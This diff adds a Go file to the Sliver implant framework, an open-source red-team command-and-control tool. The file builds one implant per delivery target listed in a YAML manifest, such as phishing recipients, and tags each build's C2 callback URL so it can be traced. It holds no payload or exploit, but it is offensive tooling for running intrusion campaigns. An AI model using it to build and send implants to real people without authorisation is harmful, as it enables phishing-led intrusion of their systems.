@@ -0,0 +1,231 @@
+package generate
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"context"
+	"crypto/rand"
+	"encoding/hex"
+	"errors"
+	"fmt"
+	"net/url"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strings"
+
+	"github.com/bishopfox/sliver/client/console"
+	"github.com/bishopfox/sliver/protobuf/clientpb"
+	"github.com/bishopfox/sliver/protobuf/commonpb"
+	"github.com/bishopfox/sliver/util"
+	"github.com/desertbit/grumble"
+	"google.golang.org/protobuf/proto"
+	"gopkg.in/yaml.v3"
+)
+
+var (
+	// ErrEmptyBatch - The manifest doesn't list any targets
+	ErrEmptyBatch = errors.New("batch manifest has no targets")
+
+	batchPathPattern = regexp.MustCompile(`^[[:alnum:]\.\-_~/]+$`)
+)
+
+// BatchManifest - A batch of implants to generate, one per delivery target
+type BatchManifest struct {
+	Name    string        `yaml:"name"`
+	Targets []BatchTarget `yaml:"targets"`
+}
+
+// BatchTarget - A delivery target (e.g. a phishing recipient or a subsidiary), the
+// implant name and http(s) c2 path are random unless they're set in the manifest
+type BatchTarget struct {
+	Target string `yaml:"target"`
+	Name   string `yaml:"name,omitempty"`
+	Path   string `yaml:"path,omitempty"`
+}
+
+// BatchBuild - The implant that was built for a delivery target
+type BatchBuild struct {
+	Target string   `yaml:"target"`
+	Name   string   `yaml:"name"`
+	File   string   `yaml:"file"`
+	Path   string   `yaml:"path,omitempty"`
+	C2     []string `yaml:"c2"`
+}
+
+// parseBatchManifest - Parse and validate a batch manifest, the batch name defaults
+// to the name of the manifest file
+func parseBatchManifest(data []byte, fileName string) (*BatchManifest, error) {
+	manifest := &BatchManifest{}
+	err := yaml.Unmarshal(data, manifest)
+	if err != nil {
+		return nil, err
+	}
+	if manifest.Name == "" {
+		manifest.Name = strings.TrimSuffix(filepath.Base(fileName), filepath.Ext(fileName))
+	}
+	if err := util.AllowedName(manifest.Name); err != nil {
+		return nil, fmt.Errorf("invalid batch name '%s': %s", manifest.Name, err)
+	}
+	if len(manifest.Targets) == 0 {
+		return nil, ErrEmptyBatch
+	}
+	targets := map[string]bool{}
+	names := map[string]bool{}
+	paths := map[string]bool{}
+	for index, target := range manifest.Targets {
+		if target.Target == "" {
+			return nil, fmt.Errorf("target %d has no 'target'", index+1)
+		}
+		if targets[target.Target] {
+			return nil, fmt.Errorf("duplicate target '%s'", target.Target)
+		}
+		targets[target.Target] = true
+		if target.Name != "" {
+			target.Name = strings.ToLower(target.Name)
+			if err := util.AllowedName(target.Name); err != nil {
+				return nil, fmt.Errorf("invalid name for target '%s': %s", target.Target, err)
+			}
+			if names[target.Name] {
+				return nil, fmt.Errorf("duplicate implant name '%s'", target.Name)
+			}
+			names[target.Name] = true
+		}
+		if target.Path != "" {
+			target.Path = strings.Trim(target.Path, "/")
+			if !batchPathPattern.MatchString(target.Path) {
+				return nil, fmt.Errorf("invalid path for target '%s'", target.Target)
+			}
+			if paths[target.Path] {
+				return nil, fmt.Errorf("duplicate path '%s'", target.Path)
+			}
+			paths[target.Path] = true
+		}
+		manifest.Targets[index] = target
+	}
+	return manifest, nil
+}
+
+// batchConfig - Copy the base config for a delivery target, the target's path is
+// appended to every http(s) c2 url so callbacks can be told apart in web logs
+func batchConfig(base *clientpb.ImplantConfig, batchName string, target BatchTarget) (*clientpb.ImplantConfig, error) {
+	config := proto.Clone(base).(*clientpb.ImplantConfig)
+	config.Name = target.Name
+	config.BatchName = batchName
+	config.BatchTarget = target.Target
+	for _, c2 := range config.C2 {
+		uri, err := url.Parse(c2.URL)
+		if err != nil {
+			return nil, err
+		}
+		if target.Path == "" || (uri.Scheme != "http" && uri.Scheme != "https") {
+			continue
+		}
+		uri.Path = strings.TrimSuffix(uri.Path, "/") + "/" + target.Path
+		c2.URL = uri.String()
+	}
+	return config, nil
+}
+
+func randomBatchPath() string {
+	buf := make([]byte, 4)
+	rand.Read(buf)
+	return hex.EncodeToString(buf)
+}
+
+// batchGenerate - Generate an implant for each target in the manifest and save the
+// mapping of targets to implants next to the builds
+func batchGenerate(ctx *grumble.Context, config *clientpb.ImplantConfig, manifestPath string, save string, con *console.SliverConsoleClient) {
+	manifestPath = expandPath(manifestPath)
+	data, err := os.ReadFile(manifestPath)
+	if err != nil {
+		con.PrintErrorf("Failed to read batch manifest: %s\n", err)
+		return
+	}
+	manifest, err := parseBatchManifest(data, manifestPath)
+	if err != nil {
+		con.PrintErrorf("Invalid batch manifest: %s\n", err)
+		return
+	}
+	save = expandPath(save)
+	err = os.MkdirAll(save, 0700)
+	if err != nil {
+		con.PrintErrorf("Failed to create %s: %s\n", save, err)
+		return
+	}
+
+	builds := []BatchBuild{}
+	for index, target := range manifest.Targets {
+		con.PrintInfof("Generating implant %d of %d for %s\n", index+1, len(manifest.Targets), target.Target)
+		isHTTP := isC2Protocol("http", config.C2) || isC2Protocol("https", config.C2)
+		if target.Path == "" && isHTTP {
+			target.Path = randomBatchPath()
+		}
+		targetConfig, err := batchConfig(config, manifest.Name, target)
+		if err != nil {
+			con.PrintErrorf("%s\n", err)
+			return
+		}
+		if 0 < index && isC2Protocol("wg", targetConfig.C2) {
+			// Every wg peer needs its own tun ip
+			uniqueWGIP, err := con.Rpc.GenerateUniqueIP(context.Background(), &commonpb.Empty{})
+			if err != nil {
+				con.PrintErrorf("Failed to generate unique ip for wg peer tun interface\n")
+				return
+			}
+			targetConfig.WGPeerTunIP = uniqueWGIP.IP
+		}
+
+		var file *commonpb.File
+		if !ctx.Flags.Bool("external-builder") {
+			file, err = compile(targetConfig, ctx.Flags.Bool("disable-sgn"), save, con)
+		} else {
+			file, err = externalBuild(targetConfig, save, con)
+		}
+		if err != nil {
+			con.PrintErrorf("Failed to generate implant for %s: %s\n", target.Target, err)
+			continue
+		}
+		c2URLs := []string{}
+		for _, c2 := range targetConfig.C2 {
+			c2URLs = append(c2URLs, c2.URL)
+		}
+		builds = append(builds, BatchBuild{
+			Target: target.Target,
+			Name:   strings.TrimSuffix(file.Name, filepath.Ext(file.Name)),
+			File:   filepath.Join(save, file.Name),
+			Path:   target.Path,
+			C2:     c2URLs,
+		})
+		con.Println()
+	}
+
+	mapping, err := yaml.Marshal(builds)
+	if err != nil {
+		con.PrintErrorf("%s\n", err)
+		return
+	}
+	mappingPath := filepath.Join(save, fmt.Sprintf("%s.builds.yaml", manifest.Name))
+	err = os.WriteFile(mappingPath, mapping, 0600)
+	if err != nil {
+		con.PrintErrorf("Failed to write batch mapping: %s\n", err)
+		return
+	}
+	con.PrintInfof("Generated %d of %d implant(s), mapping saved to %s\n", len(builds), len(manifest.Targets), mappingPath)
+}